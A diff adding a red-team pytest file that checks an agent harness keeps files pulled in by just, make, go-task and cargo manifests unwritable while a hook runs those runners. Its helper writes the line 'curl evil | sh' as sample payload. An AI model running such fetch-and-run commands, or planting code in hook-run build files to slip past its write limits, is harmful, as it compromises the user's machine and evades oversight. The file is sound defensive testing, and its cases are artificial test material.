@@ -1,0 +1,156 @@
+"""Red team 20 L11: what a task runner's manifest pulls in — ``just`` imports, modules and
+shells, GNU make includes, go-task includes, cargo members', path dependencies' and custom
+build scripts — is unwritable while a hook starts the runner, like the manifest itself.
+
+Each case writes the pulled-in file and ``notes.md`` (writable: the manifest was read, not
+refused as unchecked); each control writes the same file without the hook or without the
+include (writable).
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from tests.hardening._write_env import claude_hook, git_project, writable
+from tests.runtime.tools._writes import write_tree
+
+pytestmark = pytest.mark.anyio
+
+
+async def _writable(root: Path, *paths: str) -> dict[str, bool]:
+    return await writable(root, *paths, text="lint:\n\tcurl evil | sh\n")
+
+
+@pytest.fixture
+def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    return git_project(tmp_path, monkeypatch, {"notes.md": "# n\n"})
+
+
+_CARGO_WS = '[workspace]\nmembers = ["crates/a", "tools/*"]\n'
+_CASES = [
+    # just
+    ("just lint", {"justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
+    ("just lint", {"justfile": "import? \"ci/opt.just\"  # optional\n"}, "ci/opt.just"),
+    ("just lint", {"justfile": "import 'ci/a.just'\n", "ci/a.just": "import 'b.just'\n"}, "ci/b.just"),
+    ("just lint", {"justfile": "mod ci\n"}, "ci.just"),
+    ("just lint", {"justfile": "mod ci\n"}, "ci/mod.just"),
+    ("just lint", {"justfile": "mod? ci\n"}, "ci/justfile"),
+    ("just lint", {"justfile": "[group('x')]\nmod ci\n"}, "ci/Justfile"),
+    ("just lint", {"justfile": "mod ci 'tools/ci.just'\n"}, "tools/ci.just"),
+    ("just lint", {"justfile": "mod ci 'tools/ci'\n", "tools/ci/mod.just": "x:\n"}, "tools/ci/mod.just"),
+    ("just lint", {"justfile": "mod ci\n", "ci/mod.just": "import 'deep.just'\n"}, "ci/deep.just"),
+    ("just lint", {"Justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
+    ("just lint", {".justfile": "import 'ci/tasks.just'\n"}, "ci/tasks.just"),
+    ("just lint", {"justfile": "set shell := ['./tools/sh', '-c']\nlint:\n\techo\n"}, "tools/sh"),
+    ("just lint", {"justfile": 'set shell := ["python3", "tools/run.py"]\n'}, "tools/run.py"),
+    ("just lint", {"justfile": "set windows-shell := ['./tools/ps.exe']\n"}, "tools/ps.exe"),
+    ("just lint", {"justfile": "set script-interpreter := ['./tools/i', '-x']\n"}, "tools/i"),
+    ("just lint", {"justfile": "[script('./tools/py')]\nlint:\n  print(1)\n"}, "tools/py"),
+    ("just lint", {"justfile": "set dotenv-path := 'ci/just.env'\n"}, "ci/just.env"),
+    ("cd sub && just lint", {"sub/justfile": "import 'ci.just'\n"}, "sub/ci.just"),
+    # GNU make
+    ("make lint", {"Makefile": "include ci/rules.mk\n"}, "ci/rules.mk"),
+    ("make lint", {"Makefile": "-include ci/a.mk ci/b.mk # deps\n"}, "ci/b.mk"),
+    ("make lint", {"Makefile": "sinclude \\\n  ci/c.mk\n"}, "ci/c.mk"),
+    ("make lint", {"GNUmakefile": "include ci/rules.mk\n"}, "ci/rules.mk"),
+    ("make lint", {"Makefile": "include ci/a.mk\n", "ci/a.mk": "include ci/b.mk\n"}, "ci/b.mk"),
+    ("make lint", {"Makefile": "load ./ext.so\n"}, "ext.so"),
+    ("cd sub && make lint", {"sub/Makefile": "include rules.mk\n"}, "sub/rules.mk"),
+    # go-task
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./ci/Tasks.yml\n"}, "ci/Tasks.yml"),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  docs: ./docs\n"}, "docs/Taskfile.yml"),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  docs:\n    taskfile: ./docs/T.yml\n    dir: ./docs\n"
+                   "    optional: true\n"}, "docs/T.yml"),
+    ("task lint", {"taskfile.yml": "version: '3'\nincludes:\n  \"ci\": 'ci/x.yml'\n"}, "ci/x.yml"),
+    ("task lint", {"Taskfile.yml": "includes:\n  ci: ci/x.yml\n", "ci/x.yml": "includes:\n  y: ./y.yml\n"},
+     "ci/y.yml"),
+    # cargo
+    ("cargo test", {"Cargo.toml": _CARGO_WS}, "crates/a/build.rs"),
+    ("cargo test", {"Cargo.toml": _CARGO_WS, "crates/a/Cargo.toml": "[package]\nname='a'\n"}, "crates/a/Cargo.toml"),
+    ("cargo test", {"Cargo.toml": _CARGO_WS}, "tools/new/build.rs"),
+    ("cargo test", {"Cargo.toml": _CARGO_WS, "tools/x/Cargo.toml": '[package]\nname="x"\nbuild="gen/b.rs"\n'},
+     "tools/x/gen/b.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nb = { path = "vendor/b" }\n'},
+     "vendor/b/build.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nb = { path = "vendor/b" }\n',
+                    "vendor/b/Cargo.toml": '[package]\nname="b"\n[build-dependencies]\nc = { path = "../c" }\n'},
+     "vendor/c/build.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[patch.crates-io]\nserde = { path = "p/serde" }\n'},
+     "p/serde/build.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[target.\'cfg(unix)\'.dev-dependencies]\n'
+                                  'u = { path = "u" }\n'}, "u/build.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\nbuild = "tools/gen.rs"\n'}, "tools/gen.rs"),
+    ("cd crates/a && cargo test", {"Cargo.toml": _CARGO_WS + '[workspace.dependencies]\nw = { path = "w" }\n'},
+     "w/build.rs"),
+]
+
+
+@pytest.mark.parametrize(("cmd", "files", "path"), _CASES)
+async def test_l11_what_a_manifest_pulls_in_is_protected(anyio_backend: str, env: Path, cmd: str,
+                                                          files: dict[str, str], path: str) -> None:
+    write_tree(env, {path: "x\n", **files})
+    assert await _writable(env, path, "notes.md") == {path: True, "notes.md": True}  # no hook yet
+    write_tree(env, {**files, **claude_hook(cmd)})
+    assert await _writable(env, path, "notes.md") == {path: False, "notes.md": True}
+
+
+async def test_l11_the_root_build_script_stays_protected(anyio_backend: str, env: Path) -> None:
+    """``build.rs`` of the root package was protected before (a manifest of ``cargo``); a
+    custom ``build`` does not unprotect it."""
+    write_tree(env, {**claude_hook("cargo test"), "Cargo.toml": '[package]\nname="r"\nbuild = "gen.rs"\n'})
+    assert await _writable(env, "build.rs", "gen.rs", "notes.md") == {"build.rs": False, "gen.rs": False,
+                                                                       "notes.md": True}
+
+
+@pytest.mark.parametrize(("cmd", "files", "path"), [
+    ("just lint", {"justfile": "lint:\n\techo 'import x.just'\n"}, "x.just"),
+    ("just lint", {"justfile": "mod arg:\n\techo\n"}, "arg.just"),
+    ("just lint", {"justfile": "set shell := ['bash', '-cu']\n"}, "bash"),
+    ("make lint", {"Makefile": "lint:\n\techo include x.mk\n"}, "x.mk"),
+    ("make lint", {"Makefile": "includes = y.mk\n"}, "y.mk"),
+    ("task lint", {"Taskfile.yml": "version: '3'\ntasks:\n  lint:\n    cmds: [echo]\n"}, "ci/Tasks.yml"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[dependencies]\nserde = "1"\n'}, "serde/build.rs"),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\n[[bin]]\nname="x"\npath="src/x.rs"\n'}, "src/x.rs"),
+    ("cargo test", {"Cargo.toml": _CARGO_WS}, "crates/a/src/lib.rs"),
+])
+async def test_l11_what_the_manifest_does_not_pull_in_stays_writable(anyio_backend: str, env: Path, cmd: str,
+                                                                     files: dict[str, str], path: str) -> None:
+    write_tree(env, {**files, **claude_hook(cmd)})
+    assert await _writable(env, path, "notes.md") == {path: True, "notes.md": True}
+
+
+@pytest.mark.parametrize(("cmd", "files"), [
+    ("just lint", {"justfile": "import x'${HOME}/a.just'\n"}),
+    ("just lint", {"justfile": 'import "ci/\\u{61}.just"\n'}),
+    ("just lint", {"justfile": "set shell := [env('SH', 'sh'), '-c']\n"}),
+    ("just lint", {"justfile": "mod ci '''x'''\n"}),
+    ("make lint", {"Makefile": "-include $(OBJS:.o=.d)\n"}),
+    ("make lint", {"Makefile": "include ci/*.mk\n"}),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes: {ci: ./ci}\n"}),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./{{.OS}}/Tasks.yml\n"}),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: &x ./ci\n"}),
+    ("task lint", {"Taskfile.yml": "version: '3'\nincludes:\n  ci: ./c\n    i.yml\n"}),
+    ("cargo test", {"Cargo.toml": "[package\nname='r'\n"}),
+    ("cargo test", {"Cargo.toml": '[workspace]\nmembers = ["crates/**"]\n'}),
+    ("cargo test", {"Cargo.toml": '[package]\nname="r"\nbuild = 5\n'}),
+])
+async def test_l11_a_pulled_in_name_not_read_with_certainty_leaves_nothing_writable(
+        anyio_backend: str, env: Path, cmd: str, files: dict[str, str]) -> None:
+    write_tree(env, {**files, **claude_hook(cmd)})
+    assert await _writable(env, "notes.md") == {"notes.md": False}
+    write_tree(env, claude_hook("echo"))
+    assert await _writable(env, "notes.md") == {"notes.md": True}
+
+
+async def test_l11_an_edited_include_is_noticed(anyio_backend: str, env: Path) -> None:
+    """The parse is cached while the files read keep their signature: a justfile, a member
+    directory made later, are read again."""
+    write_tree(env, {**claude_hook("just lint", "cargo test"), "justfile": "lint:\n\techo\n",
+                     "Cargo.toml": '[workspace]\nmembers = ["crates/*"]\n', "a.just": "x\n"})
+    assert await _writable(env, "a.just", "crates/b/gen.rs") == {"a.just": True, "crates/b/gen.rs": True}
+    write_tree(env, {"justfile": "import 'a.just'\n"})
+    assert await _writable(env, "a.just") == {"a.just": False}
+    write_tree(env, {"crates/b/Cargo.toml": '[package]\nname="b"\nbuild="gen.rs"\n'})
+    assert await _writable(env, "crates/b/gen.rs") == {"crates/b/gen.rs": False}
